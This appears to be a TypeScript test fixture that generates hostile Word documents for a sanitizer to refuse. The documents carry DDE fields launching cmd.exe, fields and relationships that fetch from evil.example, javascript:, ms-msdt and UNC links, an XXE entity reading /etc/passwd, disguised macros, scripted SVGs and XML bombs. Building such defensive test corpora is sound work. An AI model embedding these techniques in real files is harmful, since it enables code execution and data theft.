import { zipOf } from '../files.ts'
import { brokenArchives } from './broken-archives.ts'
import { type Link, officeType, type Part, packageEntries, packageFile, strict } from './office-package.ts'
import {
	fieldWritings,
	namedByField,
	paragraph,
	run,
	said,
	wordDocument,
	wordPart,
	wordPlaces,
	wordXml,
} from './word-parts.ts'

/** A file by what is in it, and why it is refused. */
export type Variant = [what: string, content: Buffer, reason: string]

const dde = 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
const fields: [instruction: string, reason: string][] = [
	[dde, 'fetches'],
	['DDE Excel "C:\\a.xlsx" R1C1', 'fetches'],
	['INCLUDEPICTURE "https://evil.example/a.png" \\d', 'fetches'],
	['INCLUDETEXT "\\\\evil.example\\share\\a.docx"', 'fetches'],
	['INCLUDE "a.docx"', 'fetches'],
	['IMPORT "https://evil.example/a.png"', 'fetches'],
	['LINK Excel.Sheet.12 "https://evil.example/a.xlsx" Sheet1!R1C1 \\a', 'fetches'],
	['DATABASE \\d "C:\\a.mdb" \\c "DSN=a" \\s "select 1"', 'fetches'],
	['EMBED Package', 'fetches'],
	['CONTROL Forms.HTML:Image.1', 'fetches'],
	['MACROBUTTON Run here', 'fetches'],
	['AUTOTEXT evil', 'fetches'],
	['AUTOTEXTLIST "evil"', 'fetches'],
	['GLOSSARY evil', 'fetches'],
	['RD "https://evil.example/a.docx"', 'fetches'],
	['QUOTE "DDE"', 'fetches'],
	['PRINT 27', 'fetches'],
	['DATA "a.docx"', 'fetches'],
	['HYPERLINK "file:///c:/windows/system32/calc.exe"', 'badLink'],
	['HYPERLINK "\\\\evil.example\\share\\a.exe"', 'badLink'],
	['HYPERLINK \\o "https://un.org" "javascript:alert(1)"', 'badLink'],
	['HYPERLINK ms-msdt:/id', 'badLink'],
]
const places = Object.entries(wordPlaces)
const writings = Object.entries(fieldWritings)

/** Each writing in each place, and each instruction in a place and a writing of its own. */
const fieldVariants = [
	...places.flatMap(([place, put]) =>
		writings.map(
			([writing, write]): Variant => [`DDE ${writing} in ${place}`, packageFile(put(write(dde))), 'fetches'],
		),
	),
	...fields.map(([instruction, reason], at): Variant => {
		const [place, put] = places[at % places.length] as (typeof places)[number]
		const [writing, write] = writings[at % 5] as (typeof writings)[number]
		return [`${instruction} ${writing} in ${place}`, packageFile(put(write(instruction))), reason]
	}),
	...places.map(
		([place, put]): Variant => [
			`a field named by another in ${place}`,
			packageFile(put(namedByField('AUTO cmd'))),
			'fetches',
		],
	),
	...places.map(
		([place, put]): Variant => [
			`DDE in ${place} of the strict standard`,
			packageFile(strict(put(fieldWritings['cut letter by letter']?.(dde) ?? ''))),
			'fetches',
		],
	),
]

const outside = 'https://evil.example/a'
const microsoft = 'http://schemas.microsoft.com/office/2006/relationships/'
const links: [type: string, reason: string][] = [
	['attachedTemplate', 'linked'],
	['subDocument', 'linked'],
	['frame', 'linked'],
	['aFChunk', 'linked'],
	['oleObject', 'linked'],
	['package', 'linked'],
	['image', 'linked'],
	['video', 'linked'],
	['control', 'linked'],
	['settings', 'linked'],
	['externalLinkPath', 'linked'],
	['mailMergeSource', 'linked'],
	['transform', 'linked'],
	['hyperlinks', 'linked'],
	['hyperlink/', 'linked'],
	['x://hyperlink', 'linked'],
	[`${microsoft}attachedToolbars`, 'linked'],
	['http://schemas.openxmlformats.org/officeDocument/2006/Relationships/hyperlink', 'linked'],
]
const inside: [type: string, reason: string][] = [
	['attachedTemplate', 'linked'],
	['subDocument', 'linked'],
	['frame', 'linked'],
	['aFChunk', 'linked'],
	['oleObject', 'nested'],
	['package', 'nested'],
	['control', 'controls'],
	['video', 'nested'],
	['https://evil.example/relationships/custom', 'unknownPart'],
	[`${microsoft}vbaProject`, 'macros'],
	[`${microsoft}keyMapCustomizations`, 'macros'],
	[`${microsoft}ui/extensibility`, 'macros'],
	[`${microsoft}activeXControlBinary`, 'controls'],
	['http://schemas.microsoft.com/office/2011/relationships/webextension', 'controls'],
]
const withLink = (link: Link) => [wordDocument(said('Text'), [link])] as [Part, ...Part[]]
const targets = [
	'file:///c:/a.exe',
	'\\\\evil.example\\a',
	'javascript:alert(1)',
	'ms-word:ofe|u|https://a',
	'a.exe',
]
const moreTargets = [
	'C:\\a.exe',
	'vbscript:a',
	'data:text/html,a',
	'search-ms:query=a',
	' JavaScript:a',
	'smb://a/b',
]

const linkVariants = [
	...links.flatMap(([type, reason]): Variant[] => {
		const parts = withLink({ type, target: outside, mode: 'External' })
		return [
			[`${type} from outside`, packageFile(parts), reason],
			[`${type} from outside, strict`, packageFile(strict(parts)), reason],
		]
	}),
	...inside.map(
		([type, reason]): Variant => [
			`${type} inside`,
			packageFile([...withLink({ type, target: 'a.xml' }), { name: 'word/a.xml', content: '<a/>' }]),
			reason,
		],
	),
	...[...targets, ...moreTargets].map(
		(target): Variant => [
			`a link to ${target}`,
			packageFile(withLink({ type: 'hyperlink', target, mode: 'External' })),
			'badLink',
		],
	),
	...['image', 'header', 'customXml'].map(
		(type): Variant => [
			`an address as ${type} that is said to be inside`,
			packageFile(withLink({ type, target: 'https://evil.example/a.png' })),
			'linked',
		],
	),
	[
		'a relationship of the package itself that leads outside',
		packageFile(withLink({ type: 'styles', target: 'styles.xml' }), [
			{ type: 'attachedTemplate', target: outside, mode: 'External' },
		]),
		'linked',
	],
	[
		'two main parts',
		packageFile(withLink({ type: 'styles', target: 'a.xml' }), [
			{ type: 'officeDocument', target: 'word/b.xml' },
		]),
		'contentDiffers',
	],
] satisfies Variant[]

const elements: [xml: string, reason: string][] = [
	['<w:altChunk r:id="rId1"/>', 'linked'],
	['<w:subDoc r:id="rId1"/>', 'linked'],
	['<w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId1"/></w:object>', 'nested'],
	['<w:object><o:OLEObject Type="Link" ProgID="htmlfile" UpdateMode="Always"/></w:object>', 'nested'],
	['<w:object><w:control r:id="rId1" w:name="a"/></w:object>', 'controls'],
	['<w:pict><v:shape><v:imagedata src="https://evil.example/a.png"/></v:shape></w:pict>', 'linked'],
	['<w:pict><v:rect href="file:///c:/a.exe"/></w:pict>', 'badLink'],
	['<wp:docPr><a:hlinkClick action="ppaction://program"/></wp:docPr>', 'controls'],
	['<w:ffData><w:entryMacro w:val="Evil"/></w:ffData>', 'macros'],
	['<w:fldChar x:fldCharType="end" w:fldCharType="begin" xmlns:x="urn:a"/>', 'unreadable'],
	['<wp15:webVideoPr xmlns:wp15="urn:a" embeddedHtml="&lt;iframe/&gt;"/>', 'linked'],
]
const elementVariants = elements.map(([xml, reason], at): Variant => {
	const [place, put] = places[(at * 3) % places.length] as (typeof places)[number]
	return [`${xml} in ${place}`, packageFile(put(paragraph(run(xml)))), reason]
})

const settings = (inner: string): [Part, ...Part[]] => [
	wordDocument(said('Text'), [{ type: 'settings', target: 'settings.xml' }]),
	wordPart('settings', 'settings', inner),
]
const typed = (type: string): [Part, ...Part[]] => [
	wordDocument(said('Text'), [{ type: 'image', target: 'media/image1.png' }]),
	{ name: 'word/media/image1.png', content: 'x', type },
]
const picture = (content: string | Buffer, name = 'image1.png'): [Part, ...Part[]] => [
	wordDocument(said('Text'), [{ type: 'image', target: `media/${name}` }]),
	{ name: `word/media/${name}`, content },
]
const partVariants: Variant[] = [
	['a mail merge', packageFile(settings('<w:mailMerge><w:query w:val="a"/></w:mailMerge>')), 'linked'],
	['a template', packageFile(settings('<w:attachedTemplate r:id="rId1"/>')), 'linked'],
	[
		'macros under the name of a picture',
		packageFile(typed('application/vnd.ms-office.vbaProject')),
		'macros',
	],
	[
		'ActiveX under the name of a picture',
		packageFile(typed('application/vnd.ms-office.activeX+xml')),
		'controls',
	],
	['an OLE object under the name of a picture', packageFile(typed(`${officeType}oleObject`)), 'nested'],
	[
		'a document under the name of a picture',
		packageFile(typed(`${officeType}wordprocessingml.document`)),
		'nested',
	],
	['a page under the name of a picture', packageFile(typed('text/html')), 'linked'],
	['a program under the name of a picture', packageFile(typed('application/x-msdownload')), 'nested'],
	['a part of an unknown type', packageFile(typed('application/x-custom')), 'unknownPart'],
	['an old Office file as a picture', packageFile(picture(Buffer.from('d0cf11e0a1b11ae1', 'hex'))), 'nested'],
	['an archive as a picture', packageFile(picture(zipOf([{ name: 'a', content: 'a' }]))), 'nested'],
	['a program as a picture', packageFile(picture('MZ\x90\0')), 'nested'],
	['a PDF as a picture', packageFile(picture('%PDF-1.7')), 'nested'],
	['a page as a picture', packageFile(picture('<html><script/></html>')), 'contentDiffers'],
	[
		'a drawing with a script',
		packageFile(picture('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', 'a.svg')),
		'controls',
	],
	['a drawing with an event', packageFile(picture('<svg onload="a()"/>', 'a.svg')), 'controls'],
	[
		'a drawing that fetches a picture',
		packageFile(
			picture(
				'<svg xmlns:l="http://www.w3.org/1999/xlink"><image l:href="https://evil.example/"/></svg>',
				'a.svg',
			),
		),
		'linked',
	],
	[
		'a drawing that fetches its style',
		packageFile(picture('<?xml-stylesheet href="https://evil.example/"?><svg/>', 'a.svg')),
		'linked',
	],
	[
		'a drawing that fetches a style',
		packageFile(picture('<svg><style>@import "https://evil.example/";</style></svg>', 'a.svg')),
		'linked',
	],
]

const text = wordXml('document', `<w:body>${said('Text')}</w:body>`)
const attributes = Array.from({ length: 400 }, (_, at) => ` a${at}="1"`).join('')
const xmlTricks: [what: string, content: string | Buffer, reason: string][] = [
	['a DOCTYPE', text.replace('?>', '?><!DOCTYPE w:document>'), 'unreadable'],
	['an entity', text.replace('?>', '?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), 'unreadable'],
	['UTF-16 with its mark', Buffer.from(`\ufeff${text}`, 'utf16le'), 'unreadable'],
	['UTF-16 the other way round', Buffer.from(`\ufeff${text}`, 'utf16le').swap16(), 'unreadable'],
	['UTF-16 without a mark', Buffer.from(text, 'utf16le'), 'unreadable'],
	['UTF-7', text.replace('UTF-8', 'UTF-7'), 'unreadable'],
	['Latin letters of another encoding', text.replace('UTF-8', 'ISO-8859-1'), 'unreadable'],
	['bytes that are no UTF-8', Buffer.concat([Buffer.from(text), Buffer.from([0xff])]), 'unreadable'],
	['version 1.1', text.replace('version="1.0"', 'version="1.1"'), 'unreadable'],
	['an element without its end', text.replace('</w:body>', ''), 'damaged'],
	['two roots', `${text}<a/>`, 'damaged'],
	['an undeclared prefix', text.replace('<w:p>', '<q:p/><w:p>'), 'damaged'],
	['an undeclared entity', text.replace('Text', '&evil;'), 'damaged'],
	['an attribute twice', text.replace('<w:p>', '<w:p w:a="1" w:a="2">'), 'damaged'],
	['elements without end', text.replace('Text', '<a>'.repeat(100_000)), 'bomb'],
	['attributes without end', text.replace('<w:p>', `<w:p${attributes}>`), 'bomb'],
	['an attribute as long as a book', text.replace('<w:p>', `<w:p a="${'ab'.repeat(100_000)}">`), 'bomb'],
]
const xmlVariants = xmlTricks.flatMap(([what, content, reason]): Variant[] => [
	[`${what} in the text`, packageFile([{ ...wordDocument(''), content }]), reason],
	[
		`${what} in a header`,
		packageFile([
			wordDocument(said('Text'), [{ type: 'header', target: 'header1.xml' }]),
			{ name: 'word/header1.xml', content, type: `${officeType}wordprocessingml.header+xml` },
		]),
		reason,
	],
	[
		`${what} in the list of relationships`,
		zipOf(
			packageEntries([wordDocument('')]).map((entry) =>
				entry.name === '_rels/.rels' ? { name: entry.name, content } : entry,
			),
		),
		reason,
	],
])

const entries = packageEntries([wordDocument(said('Text'))])

/** Documents that are refused, each with what is hidden in it, and where and how. */
export const hostileDocuments: Variant[] = [
	...fieldVariants,
	...linkVariants,
	...elementVariants,
	...partVariants,
	...xmlVariants,
	...brokenArchives(entries, 'word/document.xml'),
]
